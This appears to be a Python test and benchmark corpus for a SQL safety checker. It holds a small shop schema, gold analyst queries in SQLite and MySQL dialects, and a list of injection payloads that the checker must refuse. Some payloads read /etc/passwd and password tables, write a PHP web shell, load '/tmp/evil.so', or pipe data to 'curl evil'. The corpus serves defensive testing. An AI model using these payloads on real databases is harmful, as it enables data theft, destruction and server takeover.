"""A small corpus for the free-SQL checker: realistic analyst queries (Spider/BIRD style) that must pass,
and injection payloads that must be refused. Shared by tests/datasets/test_sqlsafe_corpus.py and
benchmarks/bench_sqlsafe.py.

The gold queries run over one small shop schema (SHOP_DDL), so they can also be executed for real.
"""

from __future__ import annotations

SHOP_TABLES = ["customers", "orders", "products", "order_items"]

# One DDL that SQLite and MySQL/MariaDB both accept.
SHOP_DDL = [
    "CREATE TABLE customers (id INTEGER PRIMARY KEY, name VARCHAR(50), city VARCHAR(50), signup_date DATE)",
    "CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER, amount DECIMAL(10,2), status VARCHAR(20), "
    "order_date DATETIME)",
    "CREATE TABLE products (id INTEGER PRIMARY KEY, name VARCHAR(50), category VARCHAR(30), price DECIMAL(10,2))",
    "CREATE TABLE order_items (order_id INTEGER, product_id INTEGER, quantity INTEGER)",
]
SHOP_ROWS = {
    "customers": [
        (1, "Alice", "Shanghai", "2023-01-15"),
        (2, "Bob", "Beijing", "2023-03-02"),
        (3, "Chen", "Shanghai", "2024-07-21"),
        (4, "Dana", "Shenzhen", "2024-11-30"),
    ],
    "orders": [
        (1, 1, 120.50, "paid", "2024-01-05 10:00:00"),
        (2, 1, 80.00, "refunded", "2024-02-11 12:30:00"),
        (3, 2, 300.00, "paid", "2024-02-20 09:15:00"),
        (4, 3, 45.25, "paid", "2025-03-01 18:45:00"),
        (5, 4, 210.00, "cancelled", "2025-03-15 08:00:00"),
        (6, 2, 99.99, "paid", "2025-04-02 14:20:00"),
    ],
    "products": [(1, "Pen", "office", 2.50), (2, "Desk", "furniture", 150.00), (3, "Lamp", "furniture", 35.00)],
    "order_items": [(1, 1, 10), (1, 3, 1), (2, 2, 1), (3, 2, 2), (4, 1, 5), (5, 3, 6), (6, 1, 40)],
}

_COMMON = [
    # Spider-style basics
    "SELECT COUNT(*) FROM customers",
    "SELECT name FROM customers WHERE city = 'Shanghai' ORDER BY signup_date DESC",
    "SELECT city, COUNT(*) AS n FROM customers GROUP BY city HAVING COUNT(*) > 1 ORDER BY n DESC",
    "SELECT T1.name, SUM(T2.amount) FROM customers AS T1 JOIN orders AS T2 ON T1.id = T2.customer_id "
    "GROUP BY T1.id, T1.name ORDER BY SUM(T2.amount) DESC LIMIT 3",
    "SELECT name FROM customers WHERE id NOT IN (SELECT customer_id FROM orders WHERE status = 'refunded')",
    "SELECT name FROM products WHERE price > (SELECT AVG(price) FROM products)",
    "SELECT category, MAX(price), MIN(price), AVG(price) FROM products GROUP BY category",
    "SELECT name FROM customers WHERE city = 'Beijing' UNION SELECT name FROM customers WHERE city = 'Shenzhen'",
    "SELECT DISTINCT T3.category FROM orders AS T1 JOIN order_items AS T2 ON T1.id = T2.order_id "
    "JOIN products AS T3 ON T2.product_id = T3.id WHERE T1.status = 'paid'",
    # BIRD-style: ratios with CASE, CAST, NULLIF
    "SELECT SUM(CASE WHEN status = 'refunded' THEN 1 ELSE 0 END) * 100.0 / COUNT(*) FROM orders",
    "SELECT SUM(CASE WHEN city = 'Shanghai' THEN 1 ELSE 0 END) * 1.0 / NULLIF(COUNT(*), 0) FROM customers",
    # CTEs and window functions
    "WITH spend AS (SELECT customer_id, SUM(amount) AS total FROM orders GROUP BY customer_id) "
    "SELECT c.name, s.total FROM spend AS s JOIN customers AS c ON c.id = s.customer_id WHERE s.total > 100",
    "SELECT id, amount, RANK() OVER (ORDER BY amount DESC) AS r, "
    "SUM(amount) OVER (PARTITION BY customer_id ORDER BY order_date) AS running FROM orders",
    "SELECT customer_id, amount, LAG(amount, 1) OVER (PARTITION BY customer_id ORDER BY order_date) AS prev "
    "FROM orders",
    "SELECT * FROM (SELECT customer_id, amount, ROW_NUMBER() OVER (PARTITION BY customer_id "
    "ORDER BY amount DESC) AS rn FROM orders) AS ranked WHERE rn = 1",
    "SELECT name, COALESCE(city, 'unknown') FROM customers WHERE name LIKE 'A%' OR name LIKE '%n'",
]

GOLD_SQLITE = [
    *_COMMON,
    "SELECT CAST(SUM(CASE WHEN status = 'refunded' THEN 1 ELSE 0 END) AS REAL) * 100 / COUNT(*) FROM orders",
    "SELECT strftime('%Y', order_date) AS year, SUM(amount) FROM orders GROUP BY year ORDER BY year",
    "SELECT strftime('%Y-%m', order_date) AS month, COUNT(*) FROM orders "
    "WHERE strftime('%Y', order_date) = '2024' GROUP BY month",
    "SELECT COUNT(*) FROM customers WHERE CAST(strftime('%Y', signup_date) AS INTEGER) BETWEEN 2023 AND 2024",
    "SELECT julianday(MAX(order_date)) - julianday(MIN(order_date)) FROM orders",
    "SELECT name, IIF(price > 100, 'expensive', 'cheap') FROM products",
    "SELECT SUBSTR(name, 1, 2), INSTR(name, 'e'), LENGTH(name) FROM customers",
    "SELECT date(order_date), datetime(order_date, '+1 day') FROM orders WHERE date(order_date) >= '2025-01-01'",
    "SELECT group_concat(name, ', ') FROM customers GROUP BY city",
    "WITH monthly AS (SELECT strftime('%m', order_date) AS m, SUM(amount) AS total FROM orders GROUP BY m) "
    "SELECT m, total, total - LAG(total) OVER (ORDER BY m) FROM monthly",
    "SELECT CASE WHEN amount >= 200 THEN 'large' WHEN amount >= 100 THEN 'medium' ELSE 'small' END AS size, "
    "COUNT(*) FROM orders GROUP BY size",
]

GOLD_MYSQL = [
    *_COMMON,
    "SELECT CAST(SUM(CASE WHEN status = 'paid' THEN amount ELSE 0 END) AS DECIMAL(10, 2)) / COUNT(*) FROM orders",
    "SELECT DATE_FORMAT(order_date, '%Y-%m') AS month, SUM(amount) FROM orders GROUP BY month ORDER BY month",
    "SELECT YEAR(order_date), MONTH(order_date), COUNT(*) FROM orders GROUP BY YEAR(order_date), MONTH(order_date)",
    "SELECT DATEDIFF(MAX(order_date), MIN(order_date)) FROM orders",
    "SELECT name, IF(price > 100, 'expensive', 'cheap'), IFNULL(category, 'none') FROM products",
    "SELECT CONCAT(name, ' (', city, ')') FROM customers",
    "SELECT GROUP_CONCAT(name ORDER BY name SEPARATOR ', ') FROM customers GROUP BY city",
    "SELECT TIMESTAMPDIFF(DAY, signup_date, '2025-01-01') FROM customers",
    "SELECT COUNT(*) FROM orders WHERE order_date >= DATE_SUB('2025-04-30', INTERVAL 3 MONTH)",
    "SELECT DATE_FORMAT(order_date, '%W'), STR_TO_DATE('2024-01-05', '%Y-%m-%d') FROM orders",
    "SELECT `status`, ROUND(AVG(amount), 2) FROM `orders` GROUP BY `status` ORDER BY 2 DESC LIMIT 1, 2",
    "WITH q AS (SELECT QUARTER(order_date) AS qt, SUM(amount) AS total FROM orders GROUP BY qt) "
    "SELECT qt, total, SUM(total) OVER (ORDER BY qt) FROM q",
]

# Payloads an attacker (or a model that was talked into it) might send; every one must be refused.
# Mixed dialect spellings on purpose: each is checked against every dialect it parses in.
PAYLOADS = [
    # stacked queries
    "SELECT 1; DROP TABLE customers",
    "SELECT name FROM customers; DELETE FROM orders",
    "SELECT 1; UPDATE orders SET amount = 0",
    "SELECT 1;; SELECT 2",
    # writes and schema changes
    "DROP TABLE customers",
    "INSERT INTO orders (id) VALUES (99)",
    "UPDATE orders SET status = 'paid'",
    "DELETE FROM orders",
    "TRUNCATE TABLE orders",
    "CREATE TABLE stolen AS SELECT * FROM customers",
    "ALTER TABLE customers ADD COLUMN x INT",
    "GRANT ALL ON customers TO PUBLIC",
    "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x",
    # system catalogs, with or without UNION
    "SELECT name FROM customers UNION SELECT table_name FROM information_schema.tables",
    "SELECT name FROM customers UNION ALL SELECT usename FROM pg_catalog.pg_user",
    "SELECT name FROM customers UNION SELECT passwd FROM pg_shadow",
    "SELECT sql FROM sqlite_master",
    "SELECT * FROM mysql.user",
    "SELECT name FROM customers UNION SELECT user FROM mysql.user",
    "SELECT * FROM performance_schema.threads",
    # file access and other servers
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT name FROM customers UNION SELECT pg_read_file('/etc/passwd', 0, 200)",
    "SELECT pg_ls_dir('.')",
    "SELECT load_file('/etc/passwd')",
    "SELECT name FROM customers UNION SELECT LOAD_FILE(0x2f6574632f706173737764)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT readfile('/etc/passwd')",
    "SELECT load_extension('/tmp/evil.so')",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
    "COPY customers TO '/tmp/out.csv'",
    "COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'",
    "SELECT * INTO OUTFILE '/tmp/x' FROM customers",
    "SELECT name FROM customers INTO OUTFILE '/var/www/shell.php'",
    "SELECT name FROM customers INTO DUMPFILE '/tmp/x'",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE customers",
    "ATTACH DATABASE '/tmp/other.db' AS other",
    "PRAGMA table_info(customers)",
    "PRAGMA writable_schema = 1",
    "SELECT * FROM pragma_table_info('customers')",
    # session, server control, time burning
    "SET ROLE postgres",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT current_setting('data_directory')",
    "SELECT pg_sleep(10)",
    "SELECT SLEEP(10)",
    "SELECT BENCHMARK(100000000, MD5('x'))",
    "SELECT pg_terminate_backend(1)",
    "SELECT @@version",
    "SELECT name FROM customers WHERE id = 1 OR (SELECT @@datadir) IS NOT NULL",
    "SHOW TABLES",
    "USE mysql",
    "BEGIN",
    "SELECT * FROM customers FOR UPDATE",
    # comments and hints used to smuggle statements
    "SELECT /*! 50000 SLEEP(5) */ 1",
    "SELECT /*+ MAX_EXECUTION_TIME(999999) */ name FROM customers",
    "SELECT name FROM customers WHERE 1=1 -- \n; DROP TABLE customers",
    "SELECT name FROM customers /* */ ; /* */ DELETE FROM orders",
    # other databases and odd references
    "SELECT * FROM other_db.customers",
    "SELECT * FROM a..b",
    "SELECT * FROM secret_table",
    "SELECT query_to_xml('select 1', true, true, '')",
]
